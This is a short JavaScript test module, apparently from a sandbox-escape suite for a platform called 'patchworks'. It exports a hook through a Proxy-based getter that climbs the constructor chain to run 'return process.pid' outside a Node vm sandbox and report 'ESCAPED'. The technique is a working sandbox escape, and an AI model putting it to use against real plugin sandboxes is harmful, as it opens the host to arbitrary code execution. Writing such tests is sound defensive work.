// Exports its hook through a getter that looks at how the host reads it.
// Class: endowments
// Win: the payload holds the process id.
// Control: vm
// Platform: patchworks
let proof = '';
module.exports = (data) => ({ payload: data.payload });
Object.defineProperty(module, 'exports', {
  get: new Proxy(function () {}, {
    apply(_target, _self, list) {
      try {
        proof = list.constructor.constructor('return process.pid')();
      } catch {
        // a list of the hook's own realm
      }
      return (data) => ({ payload: data.variables.attack && proof !== '' ? `ESCAPED:${proof}` : data.payload });
    },
  }),
});
